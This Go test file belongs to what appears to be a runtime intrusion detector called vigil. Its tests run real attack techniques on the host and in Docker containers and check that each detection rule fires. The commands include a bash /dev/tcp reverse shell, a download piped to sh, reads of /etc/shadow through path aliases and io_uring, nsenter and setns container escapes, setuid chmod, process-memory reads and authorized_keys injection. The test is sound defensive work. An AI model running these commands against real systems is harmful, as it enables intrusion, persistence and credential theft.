package guard

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/detect"
)

// The proof by real attacks (issue 5): each attack is performed for real
// — on the host and inside containers of the real dockerd — while a guard
// with the built-in rules runs in dry-run, and the expected rule must
// fire on the attacking process (and, in a container, with that
// container's id). All traffic goes to loopback listeners the test opens.

// payloadMarker is what the downloaded script prints when it runs.
const payloadMarker = "vigil-payload-ran"

// where is the place attacks run: the host or a container.
type where struct {
	// cmd runs a program there with extra environment; priv runs it
	// where it may enter PID 1's namespaces.
	cmd, priv func(env []string, args ...string) *exec.Cmd
	// whose and whosePriv match alerts on the processes of a cmd or priv
	// command.
	whose, whosePriv func(*exec.Cmd) func(*Alert) bool
	bash             string // bash's path
	fetch            string // a downloader writing to stdout
	tmp              string // a writable temporary directory
	sshDir           string // an .ssh directory for authorized_keys
	helper           string // this test binary (main_test.go's helpers)
	sleep            []string
	// container is the id attacks' alerts must carry ("" on the host).
	container, privContainer string
}

func TestAttacks(t *testing.T) {
	g := startGuard(t, Options{Response: ResponseDryRun}, nil)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "echo %s\n", payloadMarker)
	}))
	t.Cleanup(srv.Close)

	t.Run("host", func(t *testing.T) {
		self, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		bash, err := exec.LookPath("bash")
		if err != nil {
			t.Skipf("no bash: %v", err)
		}
		for _, tool := range []string{"curl", "nsenter", "sleep"} {
			if _, err := exec.LookPath(tool); err != nil {
				t.Skipf("no %s: %v", tool, err)
			}
		}
		sleep, _ := exec.LookPath("sleep")
		// A user home of the test's own, for authorized_keys.
		home, err := os.MkdirTemp("/home", "vigil-test-")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(home) })
		hostCmd := func(env []string, args ...string) *exec.Cmd {
			c := command(args[0], args[1:]...)
			c.Env = append(c.Env, env...)
			return c
		}
		mine := func(c *exec.Cmd) func(*Alert) bool { return descends(c.Process.Pid) }
		attacks(t, g, srv.URL, where{
			cmd: hostCmd, priv: hostCmd, whose: mine, whosePriv: mine,
			bash: bash, fetch: "curl -s", tmp: t.TempDir(), sshDir: filepath.Join(home, ".ssh"),
			helper: self, sleep: []string{sleep, "sleep", "1"},
		})
	})

	t.Run("container", func(t *testing.T) {
		needDocker(t)
		image := attackImage(t)
		name := fmt.Sprintf("vigil-guard-%d", os.Getpid())
		// An ordinary container on the host's network (its loopback is
		// the test's listeners'), and a privileged one in the host's PID
		// namespace for the namespace escape.
		id := container(t, image, name, "--network", "host")
		priv := privileged(t, image, name+"-priv", "--pid", "host")
		// The sensor sees a container's first process before dockerd
		// lists the container, and remembers "unknown" for 5 s
		// (internal/sensor containerCache.negTTL): until then alerts carry
		// the container's id but not yet its name and image. Wait that
		// out so that the attribution checked below is complete.
		time.Sleep(6 * time.Second)
		in := func(id string) func(env []string, args ...string) *exec.Cmd {
			return func(env []string, args ...string) *exec.Cmd {
				a := []string{"exec"}
				for _, kv := range env {
					a = append(a, "-e", kv)
				}
				return command("docker", append(append(a, id), args...)...)
			}
		}
		attacks(t, g, srv.URL, where{
			cmd: in(id), priv: in(priv),
			whose:     func(*exec.Cmd) func(*Alert) bool { return inContainer(id) },
			whosePriv: func(*exec.Cmd) func(*Alert) bool { return inContainer(priv) },
			bash:      "/bin/bash", fetch: "wget -qO-", tmp: "/tmp", sshDir: "/root/.ssh",
			helper: "/vigil-helper", sleep: []string{"/bin/busybox", "sleep", "1"},
			container: id, privContainer: priv,
		})
	})
}

// and matches when every predicate does.
func and(preds ...func(*Alert) bool) func(*Alert) bool {
	return func(a *Alert) bool {
		for _, p := range preds {
			if !p(a) {
				return false
			}
		}
		return true
	}
}

// attacks performs every attack at w and checks the rules that fire.
func attacks(t *testing.T, g *realGuard, url string, w where) {
	// expect waits for rule on the attack's processes and checks the
	// alert's attribution and the dry-run record of its action.
	expect := func(t *testing.T, rule string, whose func(*Alert) bool, container string, also func(*Alert) bool) *Alert {
		t.Helper()
		if also == nil {
			also = func(*Alert) bool { return true }
		}
		a := g.sink.wait(t, rule, and(byRule(rule), whose, also))
		ev := &a.Event
		t.Logf("%s fired: %s (pid %d %s, exe %s)", rule, a.Output, ev.Process.PID, ev.Process.Name, ev.Process.Exe)
		if container != "" {
			c := ev.Container
			if c == nil || c.ID != container || c.Runtime != "docker" || c.Image == "" {
				t.Errorf("%s: container %+v, want id %s from docker with its image", rule, c, container)
			}
		} else if ev.Container != nil {
			t.Errorf("%s: container %+v on the host", rule, ev.Container)
		}
		if a.Action != detect.ActionAlert {
			if r := a.Response; r == nil || !r.DryRun || string(r.Action) != string(a.Action) {
				t.Errorf("%s: action %s, response %+v: want a dry-run record", rule, a.Action, r)
			}
		}
		return a
	}

	t.Run("reverse-shell", func(t *testing.T) {
		ln, port := listen(t)
		cmd := w.cmd(nil, w.bash, "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
		start(t, cmd)
		conn := accept(t, ln)
		a := expect(t, "VGL-RT-001", w.whose(cmd), w.container, func(a *Alert) bool { return a.Event.Process.Name == "bash" })
		if p := a.Event.Process; p.Stdin != "socket" || p.Stdout != "socket" {
			t.Errorf("shell stdin %q stdout %q, want sockets", p.Stdin, p.Stdout)
		}
		// The shell is alive while it waits for commands: the dry run's
		// checks (pidfd, start time) pass.
		if r := a.Response; r == nil || r.Err != "" {
			t.Errorf("dry-run kill of a live shell: %+v", r)
		}
		expect(t, "VGL-RT-003", w.whose(cmd), w.container, nil)
		expect(t, "VGL-RT-005", w.whose(cmd), w.container, nil)
		fmt.Fprintln(conn, "exit")
		waitExit(t, cmd)
	})

	t.Run("download-execute", func(t *testing.T) {
		cmd := w.cmd(nil, "sh", "-c", fmt.Sprintf("%s %s/x.sh | sh", w.fetch, url))
		if out := run(t, cmd); !strings.Contains(out, payloadMarker) {
			t.Fatalf("the downloaded script did not run: %q", out)
		}
		expect(t, "VGL-RT-010", w.whose(cmd), w.container, func(a *Alert) bool { return a.Event.Process.Name == "sh" })
		if w.container == "" {
			// busybox sh runs the sh of the pipeline as an applet in the
			// forked child, without an exec: only a real exec of a shell
			// under a downloader's pipeline can fire this one.
			expect(t, "VGL-RT-011", w.whose(cmd), w.container, nil)
		}
	})

	t.Run("nsenter-pid1", func(t *testing.T) {
		cmd := w.priv(nil, "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "true")
		if out, err := cmd.CombinedOutput(); err != nil {
			// Some sandboxes (this project's VMs among them) hide PID 1's
			// namespaces even from root; the attempt is what the rule
			// judges.
			if !strings.Contains(string(out), "/proc/1/ns/") || !strings.Contains(string(out), "Permission denied") {
				t.Fatalf("%s: %v\n%s", cmd, err, out)
			}
			t.Logf("nsenter was refused by this host: %s", strings.TrimSpace(string(out)))
		}
		isNsenter := func(a *Alert) bool { return a.Event.Process.Name == "nsenter" }
		expect(t, "VGL-RT-031", w.whosePriv(cmd), w.privContainer, isNsenter)
		if w.privContainer != "" {
			expect(t, "VGL-RT-030", w.whosePriv(cmd), w.privContainer, isNsenter)
		}
	})

	t.Run("read-shadow", func(t *testing.T) {
		cmd := w.cmd(nil, "cat", "/etc/shadow")
		run(t, cmd)
		expect(t, "VGL-RT-060", w.whose(cmd), w.container, func(a *Alert) bool {
			return a.Event.Process.Name == "cat" && a.Event.File != nil && a.Event.File.Path == "/etc/shadow"
		})
	})

	t.Run("read-shadow-aliased", func(t *testing.T) {
		// The same file by other names: a sensor matching path strings
		// is blind to each.
		for _, alias := range []string{"//etc//shadow", "/etc/./shadow", "/etc/../etc/shadow", "/proc/self/root/etc/shadow"} {
			cmd := w.cmd(nil, "cat", alias)
			run(t, cmd)
			expect(t, "VGL-RT-060", w.whose(cmd), w.container, func(a *Alert) bool {
				return a.Event.File != nil && a.Event.File.Path == "/etc/shadow" && slices.Contains(a.Event.Process.Args, alias)
			})
		}
	})

	t.Run("read-shadow-io-uring", func(t *testing.T) {
		// The open submitted through io_uring: no open system call.
		cmd := w.cmd([]string{helperEnv + "=uring-open"}, w.helper, "/etc/shadow")
		out, err := cmd.CombinedOutput()
		if err != nil {
			if cmd.ProcessState != nil && cmd.ProcessState.ExitCode() == 3 && strings.Contains(string(out), "io_uring_setup") && w.container != "" {
				// Docker's default seccomp profile refuses io_uring: a
				// container's process cannot submit anything that way.
				t.Skipf("io_uring refused in the container: %s", strings.TrimSpace(string(out)))
			}
			t.Fatalf("%s: %v\n%s", cmd, err, out)
		}
		expect(t, "VGL-RT-060", w.whose(cmd), w.container, func(a *Alert) bool {
			return a.Event.File != nil && a.Event.File.Path == "/etc/shadow" && a.Event.Args["via"] == "io_uring"
		})
	})

	if w.privContainer != "" { // container escapes: the rules judge containers only
		t.Run("setns-host", func(t *testing.T) {
			// The host's network namespace joined with setns, no nsenter:
			// the privileged container shares the host's PID namespace,
			// where this test's process is a host process.
			cmd := w.priv([]string{helperEnv + "=setns-net"}, w.helper, strconv.Itoa(os.Getpid()))
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", cmd, err, out)
			}
			expect(t, "VGL-RT-045", w.whosePriv(cmd), w.privContainer, func(a *Alert) bool {
				return a.Event.Args["nsType"] == "net"
			})
		})
		t.Run("open-by-handle", func(t *testing.T) {
			// "shocker": a file opened by its handle, no path, from the
			// container that holds CAP_DAC_READ_SEARCH.
			cmd := w.priv([]string{helperEnv + "=handle-open"}, w.helper, "/etc/hostname")
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", cmd, err, out)
			}
			expect(t, "VGL-RT-044", w.whosePriv(cmd), w.privContainer, func(a *Alert) bool {
				return a.Event.Args["via"] == "open_by_handle_at" && a.Event.Result >= 0
			})
		})
	}

	t.Run("shadow-link", func(t *testing.T) {
		// A second name for /etc/shadow, to read it by.
		link := fmt.Sprintf("%s/vigil-link-%d", w.tmp, os.Getpid())
		cmd := w.cmd(nil, "sh", "-c", fmt.Sprintf("ln -s /etc/shadow %s && cat %s >/dev/null && rm %s", link, link, link))
		run(t, cmd)
		expect(t, "VGL-RT-093", w.whose(cmd), w.container, func(a *Alert) bool {
			f := a.Event.File
			return f != nil && f.Path == "/etc/shadow" && f.NewPath == link && a.Event.Args["type"] == "symbolic"
		})
	})

	t.Run("log-deleted-relative", func(t *testing.T) {
		// cd /var/log && rm …: the unlink's path is relative.
		name := fmt.Sprintf("vigil-test-%d.log", os.Getpid())
		cmd := w.cmd(nil, "sh", "-c", fmt.Sprintf("mkdir -p /var/log && echo x > /var/log/%s && cd /var/log && rm %s", name, name))
		run(t, cmd)
		expect(t, "VGL-RT-090", w.whose(cmd), w.container, func(a *Alert) bool {
			// busybox sh runs rm in its own process: the name is in sh -c's script.
			return a.Event.File != nil && a.Event.File.Path == "/var/log/"+name && strings.Contains(strings.Join(a.Event.Process.Args, " "), name)
		})
	})

	t.Run("log-truncated-relative", func(t *testing.T) {
		// truncate opens without O_TRUNC and calls ftruncate(2) on the fd.
		name := fmt.Sprintf("vigil-trunc-%d.log", os.Getpid())
		cmd := w.cmd(nil, "sh", "-c", fmt.Sprintf("mkdir -p /var/log && echo x >> /var/log/%s && cd /var/log && truncate -s 0 %s && rm -f %s", name, name, name))
		run(t, cmd)
		expect(t, "VGL-RT-091", w.whose(cmd), w.container, func(a *Alert) bool {
			return a.Event.Kind == "truncate" && a.Event.File != nil && a.Event.File.Path == "/var/log/"+name
		})
	})

	t.Run("chmod-tmp", func(t *testing.T) {
		// A payload made executable in the temporary directory, then a
		// setuid copy of a shell: neither path is watched.
		bin := fmt.Sprintf("%s/vigil-chmod-%d", w.tmp, os.Getpid())
		script := fmt.Sprintf("echo x > %s && chmod 755 %s && chmod 4755 %s && rm -f %s", bin, bin, bin, bin)
		whose := w.whose
		if w.container == "" {
			// Both rules except build tools and their children, and this
			// test runs under go: the attack runs detached (setsid -f), an
			// orphan whose ancestry no longer holds go.
			done := bin + ".done"
			run(t, w.cmd(nil, "setsid", "-f", "sh", "-c", script+" && touch "+done))
			deadline := time.Now().Add(10 * time.Second)
			for _, err := os.Stat(done); err != nil && time.Now().Before(deadline); _, err = os.Stat(done) {
				time.Sleep(20 * time.Millisecond)
			}
			os.Remove(done)
			whose = func(*exec.Cmd) func(*Alert) bool { return func(*Alert) bool { return true } }
		}
		cmd := w.cmd(nil, "true")
		if w.container != "" {
			cmd = w.cmd(nil, "sh", "-c", script)
			run(t, cmd)
		}
		expect(t, "VGL-RT-014", whose(cmd), w.container, func(a *Alert) bool { return a.Event.File != nil && a.Event.File.Path == bin })
		expect(t, "VGL-RT-055", whose(cmd), w.container, func(a *Alert) bool {
			return a.Event.File != nil && a.Event.File.Path == bin && a.Event.File.Mode == 0o4755
		})
	})

	t.Run("proc-mem", func(t *testing.T) {
		// Another process's memory opened through /proc.
		cmd := w.cmd(nil, "sh", "-c", "sleep 2 & p=$!; cat /proc/$p/mem >/dev/null 2>&1; kill $p; true")
		run(t, cmd)
		expect(t, "VGL-RT-065", w.whose(cmd), w.container, func(a *Alert) bool {
			return a.Event.File != nil && strings.HasSuffix(a.Event.File.Path, "/mem")
		})
	})

	t.Run("process-vm-readv", func(t *testing.T) {
		// Another process's memory read without ptrace or /proc. Docker's
		// default seccomp profile refuses the call before any tracepoint
		// sees it: in a container, the privileged one runs it.
		cmd := w.priv([]string{helperEnv + "=pvm-read"}, "sh", "-c", fmt.Sprintf("sleep 2 & p=$!; %s $p; kill $p", w.helper))
		run(t, cmd)
		expect(t, "VGL-RT-065", w.whosePriv(cmd), w.privContainer, func(a *Alert) bool {
			// The target is the background job, caught before or after
			// its exec of sleep.
			return a.Event.Kind == "ptrace" && a.Event.Args["requestName"] == "PROCESS_VM_READV" && a.Event.Target != nil && a.Event.Target.PID != a.Event.Process.PID
		})
	})

	t.Run("authorized-keys", func(t *testing.T) {
		keys := w.sshDir + "/authorized_keys"
		cmd := w.cmd(nil, "sh", "-c", fmt.Sprintf("mkdir -p %s && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIvigiltest vigil-test' >> %s", w.sshDir, keys))
		run(t, cmd)
		expect(t, "VGL-RT-073", w.whose(cmd), w.container, func(a *Alert) bool {
			return a.Event.File != nil && a.Event.File.Path == keys && a.Event.File.Write
		})
	})

	t.Run("deleted-binary-connects", func(t *testing.T) {
		// A copy of bash removes its own executable, then connects.
		ln, port := listen(t)
		bin := w.tmp + "/vigil-deleted-sh"
		cmd := w.cmd(nil, "sh", "-c", fmt.Sprintf(`cp %s %s && exec %s -c 'rm -f "$0"; exec 3<>/dev/tcp/127.0.0.1/%d; echo hi >&3' %s`,
			w.bash, bin, bin, port, bin))
		start(t, cmd)
		accept(t, ln)
		a := expect(t, "VGL-RT-094", w.whose(cmd), w.container, func(a *Alert) bool { return a.Event.Kind == "connect" })
		if !a.Event.Process.ExeDeleted || a.Event.Network == nil || a.Event.Network.DstPort != uint16(port) {
			t.Errorf("event %+v network %+v", a.Event.Process, a.Event.Network)
		}
		waitExit(t, cmd)
	})

	t.Run("deleted-binary-exec", func(t *testing.T) {
		// A program copied, opened, removed and executed from its fd.
		args := []string{w.helper, w.sleep[0], w.tmp + "/vigil-deleted-exec"}
		cmd := w.cmd([]string{helperEnv + "=deleted"}, append(args, w.sleep[1:]...)...)
		run(t, cmd)
		a := expect(t, "VGL-RT-094", w.whose(cmd), w.container, func(a *Alert) bool { return a.Event.Kind == "exec" })
		if !a.Event.Process.ExeDeleted {
			t.Errorf("process %+v not flagged deleted", a.Event.Process)
		}
	})

	t.Run("memfd-exec", func(t *testing.T) {
		cmd := w.cmd([]string{helperEnv + "=memfd"}, append([]string{w.helper, w.sleep[0]}, w.sleep[1:]...)...)
		run(t, cmd)
		a := expect(t, "VGL-RT-095", w.whose(cmd), w.container, nil)
		if !a.Event.Process.ExeMemfd {
			t.Errorf("process %+v not flagged memfd", a.Event.Process)
		}
	})
}
